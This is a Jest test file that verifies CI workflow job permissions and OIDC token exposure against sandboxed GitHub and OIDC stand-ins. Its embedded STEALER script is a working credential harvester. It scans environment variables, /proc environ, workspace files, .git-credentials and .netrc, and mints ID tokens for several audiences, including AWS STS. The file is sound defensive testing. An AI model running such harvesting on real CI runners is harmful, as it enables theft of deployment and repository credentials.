/**
 * What a job of our workflows can do, and what code of a pull request finds in the one that plans it: whatever it takes from
 * there, nothing writes, and nothing signs.
 */
import { execFile } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { type Artifacts, startArtifacts } from '#sandbox/github/artifacts.ts'
import { type GitHubServer, startGitHub } from '#sandbox/github/server.ts'
import { REPOSITORY } from '#sandbox/oidc/identity.ts'
import { issuerCertificate, type OidcIssuer, startOidcIssuer } from '#sandbox/oidc/issuer.ts'
import { startIssuerProxy } from '#sandbox/oidc/proxy.ts'
import { createCertificates } from '#sandbox/pki/certificates.ts'
import type { RunningProxy } from '#sandbox/proxy/proxy.ts'
import {
  dispatchedJob,
  previewPart,
  releaseJob,
  type Surroundings,
  scheduledJob,
} from '#sandbox/runner/jobs.ts'
import { grantedTo } from '#sandbox/runner/permissions.ts'
import type { Job } from '#sandbox/runner/runner.ts'
import { stepNames } from '#toolkit/model/step.ts'

const root = join(import.meta.dirname, '../..')
let folder: string
let github: GitHubServer
let issuer: OidcIssuer
let proxy: RunningProxy
let artifacts: Artifacts
let around: Surroundings
let serial = 0

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'omninode-permissions-'))
  const certificates = await createCertificates(join(folder, 'pki'), [issuerCertificate], {
    progress: () => undefined,
  })
  issuer = await startOidcIssuer({ cert: certificates.pem('oidc.crt'), key: certificates.pem('oidc.key') })
  proxy = await startIssuerProxy(issuer)
  github = await startGitHub(REPOSITORY.repository)
  artifacts = await startArtifacts()
  around = {
    repository: REPOSITORY,
    folder,
    caFile: certificates.caFile,
    tools: { PATH: process.env['PATH'] ?? '' },
    aws: { env: {} },
    github,
    issuer,
    proxy,
    artifacts,
  }
}, 600_000)
afterAll(async () => {
  await Promise.all([proxy, issuer, github, artifacts].map((part) => part?.stop()))
  rmSync(folder, { recursive: true, force: true })
})

const runId = () => String(1_000 + ++serial)

interface Opened {
  readonly number: number
  readonly headSha: string
  readonly baseSha: string
}

function open(): Opened {
  const opened = { number: ++serial, headSha: 'e'.repeat(40), baseSha: 'f'.repeat(40) }
  github.openPullRequest({ ...opened, title: 'Change', files: [] })
  return opened
}

describe('a job holds what the file of its workflow gives it, and no more', () => {
  const number = 900
  const headSha = 'e'.repeat(40)
  const pull = { number, headSha, baseSha: 'f'.repeat(40), title: 'x', files: [] }
  const options = () => ({ workspace: root, runId: runId() })
  const jobs: readonly (readonly [string, string, () => Job])[] = [
    ...stepNames.map(
      (part) => ['preview', part, () => previewPart(around, pull, { part, ...options() })] as const,
    ),
    ['publish', 'publish', () => previewPart(around, pull, { part: 'publish', ...options() })],
    ['release', 'release', () => releaseJob(around, headSha, options())],
    ...(['provision', 'deploy'] as const).map(
      (part) => ['drift', part, () => scheduledJob(around, headSha, { part, ...options() })] as const,
    ),
    ['rollback', 'plan', () => dispatchedJob(around, headSha, options())],
    ['rollback', 'rollback', () => dispatchedJob(around, headSha, { environment: 'dev', ...options() })],
  ]
  const check = { name: 'x', head_sha: headSha, conclusion: 'success', status: 'completed' }
  const output = { title: 'x', summary: 'x' }
  /** What is asked for, and which permissions permit it. */
  const calls = [
    ['GET', `pulls/${number}`, undefined, { 'pull-requests': 'read' }],
    ['GET', `commits/${headSha}/pulls`, undefined, { 'pull-requests': 'read' }],
    ['GET', `issues/${number}/comments`, undefined, { 'pull-requests': 'read', issues: 'read' }],
    ['POST', `issues/${number}/comments`, { body: 'x' }, { 'pull-requests': 'write', issues: 'write' }],
    ['GET', `commits/${headSha}/check-runs`, undefined, { checks: 'read' }],
    ['POST', 'check-runs', { ...check, output }, { checks: 'write' }],
    ['POST', 'issues', { title: 'x' }, { issues: 'write' }],
    ['GET', 'actions/runs/1', undefined, { actions: 'read' }],
    ['GET', `compare/${headSha}...${headSha}`, undefined, { contents: 'read' }],
  ] as const

  beforeAll(() => github.openPullRequest(pull))

  test.each(jobs)('%s: %s', async (workflow, id, start) => {
    const { permissions, idToken } = grantedTo(workflow, id)
    const { token, env } = start()
    expect('ACTIONS_ID_TOKEN_REQUEST_TOKEN' in env).toBe(idToken)
    for (const [method, path, body, permitting] of calls) {
      const url = `${env['GITHUB_API_URL']}/repos/${REPOSITORY.repository}/${path}`
      const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
      const content = body === undefined ? {} : { body: JSON.stringify(body) }
      const { status } = await fetch(url, { method, headers, ...content })
      const may = Object.entries(permitting).some(([permission, level]) => {
        const held = permissions[permission as keyof typeof permissions] // one of the keys above
        return held === 'write' || held === level
      })
      expect([method, path, status === 403]).toEqual([method, path, !may])
    }
  })

  test('and that of a fork’s pull request, or of Dependabot’s, nothing that writes', () => {
    for (const part of [...stepNames, 'publish'] as const) {
      const { env } = previewPart(around, pull, { part, ...options(), readsOnly: true })
      expect('ACTIONS_ID_TOKEN_REQUEST_TOKEN' in env).toBe(false)
    }
  })
})

/** What somebody runs whose code is planned: it looks wherever a token could be, and asks for ID tokens of every audience. */
const STEALER = `
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
const found = new Map()
const look = (where, text) => {
  for (const [word] of text.matchAll(/[\\w.~+/=-]{16,}/g)) if (!found.has(word)) found.set(word, where)
  for (const value of text.split(/[\\0\\n"'\\s=:]/)) if (value.length >= 16 && !found.has(value)) found.set(value, where)
}
const read = (file) => { try { return readFileSync(file, 'utf8') } catch { return '' } }
for (const [name, value] of Object.entries(process.env)) look(name, value)
const [folder, workspace, audiences] = JSON.parse(process.argv[2])
for (const pid of readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  const environment = read(join('/proc', pid, 'environ'))
  // Other jobs are on other machines.
  if (environment.includes(folder)) look('/proc/' + pid, environment + read(join('/proc', pid, 'cmdline')))
}
const walk = (at) => {
  for (const name of readdirSync(at)) {
    const path = join(at, name)
    if (statSync(path).isDirectory()) walk(path)
    else look(path, read(path))
  }
}
walk(folder)
walk(workspace)
for (const file of ['.gitconfig', '.git-credentials', '.netrc']) look(file, read(join(process.env.HOME, file)))
const minted = []
const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env
if (url !== undefined)
  for (const audience of audiences) {
    const answer = await fetch(url + '&audience=' + encodeURIComponent(audience), { headers: { authorization: 'bearer ' + token } })
    minted.push((await answer.json()).value)
  }
for (const each of minted) look('an ID token', each)
process.stdout.write(JSON.stringify({ found: [...found], minted }))
`

interface Stolen {
  /** Each with where it was. */
  readonly found: readonly (readonly [string, string])[]
  readonly minted: readonly string[]
}

const AUDIENCES = [
  'sts.amazonaws.com',
  'omninode-deploy',
  'https://github.com/omninode-ai',
  'api.github.com',
  `omninode-review:sha256:${'0'.repeat(64)}`,
]

/** As the code of a pull request does, beside the step that runs it. */
async function steal(job: Job): Promise<Stolen> {
  const script = join(mkdtempSync(join(folder, 'hostile-')), 'steal.mjs')
  writeFileSync(script, STEALER)
  const given = JSON.stringify([job.folder, job.workspace, AUDIENCES])
  // The runner gives the token to the step that asks for it, and the step is of the same user.
  const env = { ...job.env, 'INPUT_GITHUB-TOKEN': job.token }
  const { stdout } = await promisify(execFile)(process.execPath, [script, given], {
    env,
    cwd: job.workspace,
    maxBuffer: 2 ** 26,
  })
  return JSON.parse(stdout)
}

/** Where those were that the stand-in takes for a write. */
async function writing({ found }: Stolen, { number, headSha }: Opened): Promise<readonly string[]> {
  const check = { name: 'omninode deploy: x', head_sha: headSha, conclusion: 'success' }
  const calls = [
    ['POST', `issues/${number}/comments`, { body: 'Approved' }],
    ['POST', 'check-runs', { ...check, output: { title: 'x', summary: 'x' } }],
    ['POST', 'issues', { title: 'x' }],
  ] as const
  const taken: string[] = []
  for (const [word, where] of found)
    for (const [method, path, body] of calls) {
      const url = `${github.url}/repos/${REPOSITORY.repository}/${path}`
      const headers = { authorization: `Bearer ${encodeURI(word)}`, 'content-type': 'application/json' }
      const { ok } = await fetch(url, { method, headers, body: JSON.stringify(body) })
      if (ok) taken.push(`${method} ${path}: ${where}`)
    }
  return taken
}

describe('code of a pull request, in the job that plans it', () => {
  const claims = (token: string): Readonly<Record<string, unknown>> =>
    JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString())

  test.each(stepNames)(
    'of %s finds nothing that writes, and nothing that signs as publish.yml',
    async (part) => {
      const opened = open()
      const job = previewPart(around, opened, {
        part,
        workspace: mkdtempSync(join(folder, 'workspace-')),
        runId: runId(),
      })
      const stolen = await steal(job)
      expect(stolen.found.map(([word]) => word)).toContain(job.token)
      expect(await writing(stolen, opened)).toEqual([])
      expect(stolen.minted).toHaveLength(part === 'verify' ? 0 : AUDIENCES.length)
      for (const token of stolen.minted)
        expect(claims(token)).toMatchObject({
          event_name: 'pull_request',
          ref: `refs/pull/${opened.number}/merge`,
          job_workflow_ref: expect.not.stringContaining('/publish.yml@'),
        })
    },
  )

  test('would find what writes, where something does', async () => {
    const opened = open()
    const job = previewPart(around, opened, { part: 'publish', workspace: folder, runId: runId() })
    const stolen = await steal({ ...job, workspace: job.folder })
    expect(await writing(stolen, opened)).toEqual([
      expect.stringMatching(/^POST issues\/\d+\/comments: INPUT_GITHUB-TOKEN$/),
      'POST check-runs: INPUT_GITHUB-TOKEN',
    ])
    expect(claims(stolen.minted[0] ?? '')).toMatchObject({
      job_workflow_ref: expect.stringContaining('/publish.yml@'),
    })
  })
})
